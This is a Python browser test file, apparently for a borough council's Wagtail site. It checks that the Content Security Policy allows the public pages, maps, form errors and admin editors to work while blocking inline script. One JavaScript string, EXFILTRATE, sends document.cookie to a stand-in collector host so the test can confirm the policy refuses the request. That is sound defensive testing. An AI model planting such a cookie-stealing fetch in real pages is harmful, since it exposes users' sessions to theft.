"""The Content Security Policy in a real browser.

The public site runs with no inline script or style at all; the Wagtail admin works with the few relaxations in
borough_site.security, and still needs them. Every browser test fails on anything the policy blocks (see
tests/browser/conftest.py), so these tests add what matters most: the headers, the maps, a form with errors and
the admin's editors.
"""

import re

import pytest
from playwright.sync_api import expect

from borough_site import security
from locations.models import Location
from tests.factories import StandardPageFactory, SuperuserFactory

pytestmark = pytest.mark.browser


EXFILTRATE = """() => new Promise((resolve) => {
  document.addEventListener("securitypolicyviolation", (event) => resolve(`${event.effectiveDirective} ${event.blockedURI}`));
  fetch("https://collector.example.net/?c=" + document.cookie).catch(() => null);
})"""


def policy(response) -> dict[str, list[str]]:
    header = response.headers["content-security-policy"]
    return {name: values for name, *values in (part.split() for part in header.split(";"))}


def check_admin(page):
    """axe on an admin page, less Wagtail's own flash messages (their contrast while fading in is Wagtail's)."""
    page.check(exclude=[".messages"])


def check_page_editor(page):
    """The page editor also has Draftail's editable area, which has no accessible name of its own (Wagtail's)."""
    page.check(exclude=[".messages"], disable_rules=["aria-input-field-name"])


def test_the_public_site_works_with_no_inline_script_or_style(browser_page, home_page, places):
    directives = policy(browser_page.goto("/"))
    assert "'unsafe-inline'" not in str(directives)
    assert directives["script-src"] == directives["style-src"] == ["'self'"]
    assert directives["frame-ancestors"] == ["'none'"]
    # A script that got into a page could not send anything to another host: the browser refuses to try.
    browser_page.allow_console_error("collector.example.net")
    refused = browser_page.evaluate(EXFILTRATE)
    assert refused == "connect-src https://collector.example.net/?c="
    assert browser_page.blocked_requests == []

    browser_page.get_by_label("Postcode or area").fill("SW18 2PU")
    browser_page.get_by_role("button", name="Search").click()
    browser_page.check()
    # The results map draws its markers from the GeoJSON feed (a fetch: connect-src).
    expect(browser_page.locator("#results-map .leaflet-marker-icon")).to_have_count(2)

    browser_page.get_by_role("link", name="Near Library").click()
    browser_page.check()
    expect(browser_page.locator("#place-map .leaflet-marker-icon")).to_have_count(1)

    browser_page.get_by_role("link", name="Report a problem with this page").click()
    browser_page.check()
    browser_page.get_by_role("button", name="Send report").click()
    browser_page.check()
    # GOV.UK Frontend's script moves focus to the error summary: it ran.
    expect(browser_page.get_by_role("alert")).to_contain_text("Select what is wrong")
    expect(browser_page.locator(".govuk-error-summary")).to_be_focused()

    # Nothing was blocked but the test's own attempt to send data elsewhere.
    assert [violation.split(" on ")[0] for violation in browser_page.csp_violations] == [
        "connect-src blocked https://collector.example.net/?c="
    ]
    browser_page.csp_violations.clear()


def test_the_admin_editors_work_under_the_admin_policy(browser_page, home_page, places):
    browser_page.log_in(SuperuserFactory())
    directives = policy(browser_page.goto("/admin/", check=False))
    check_admin(browser_page)
    # Relaxed for <script> and <style> elements only: inline event handlers and style attributes stay blocked.
    assert directives["script-src"] == directives["style-src"] == ["'self'"]
    assert "'unsafe-inline'" in directives["script-src-elem"]
    assert directives["frame-ancestors"] == ["'self'"]

    # A snippet editor with the Leaflet map widget, an image chooser and InlinePanels.
    library = places["library"]
    browser_page.goto(f"/admin/snippets/locations/location/edit/{library.pk}/", check=False)
    check_admin(browser_page)
    browser_page.get_by_role("tab", name="Address and map").click()
    expect(browser_page.locator(".location-map .leaflet-marker-icon")).to_have_count(1)
    browser_page.get_by_role("tab", name="Opening hours").click()
    rows = browser_page.locator("#id_opening_periods-FORMS > *")
    before = rows.count()
    # Wagtail autosaves as the form changes: with the new row still empty, that autosave is refused (400).
    browser_page.allow_console_error("status of 400")
    browser_page.get_by_role("button", name="Add Opening hours").click()
    expect(rows).to_have_count(before + 1)
    browser_page.get_by_role("button", name=re.compile(r"^Delete")).last.click()
    browser_page.get_by_role("tab", name="Details").click()
    browser_page.locator("#id_name").fill("Near Library (Tooting)")
    browser_page.locator("footer").get_by_role("button", name="Save draft").click()
    expect(browser_page.locator(".messages")).to_contain_text("Near Library (Tooting)")
    check_admin(browser_page)
    assert Location.objects.get(pk=library.pk).latest_revision.object_str == "Near Library (Tooting)"

    # The page editor, its save button and its live preview (the admin framing itself).
    page = StandardPageFactory(parent=home_page, title="About this service")
    browser_page.goto(f"/admin/pages/{page.pk}/edit/", check=False)
    check_page_editor(browser_page)
    browser_page.locator("#id_title").fill("About the digital help service")
    browser_page.locator("footer").get_by_role("button", name="Save draft").click()
    expect(browser_page.locator(".messages")).to_contain_text("About the digital help service")
    check_page_editor(browser_page)
    page.refresh_from_db()
    assert page.get_latest_revision().object_str == "About the digital help service"
    browser_page.locator('[data-side-panel-toggle="preview"]').click()
    preview = browser_page.frame_locator("#w-preview-iframe")
    expect(preview.get_by_role("heading", level=1)).to_have_text("About the digital help service")

    # End where the final axe check (at teardown) need not skip Draftail's nameless editable area.
    browser_page.goto("/admin/pages/", check=False)
    check_admin(browser_page)
    assert browser_page.csp_violations == []


def test_the_admin_still_needs_its_relaxations(browser_page, home_page, places, monkeypatch):
    """When Wagtail stops writing inline scripts this fails: then drop 'unsafe-inline' from ADMIN_DIRECTIVES."""
    monkeypatch.setattr(security, "ADMIN_DIRECTIVES", {"frame-ancestors": ["'self'"]})
    # What the site's own policy breaks is the point of this test.
    browser_page.allow_console_error("Content Security Policy|Uncaught")
    browser_page.log_in(SuperuserFactory())

    browser_page.goto(f"/admin/snippets/locations/location/edit/{places['library'].pk}/", check=False)
    check_admin(browser_page)

    assert any(violation.startswith("script-src-elem blocked inline") for violation in browser_page.csp_violations)
    browser_page.csp_violations.clear()
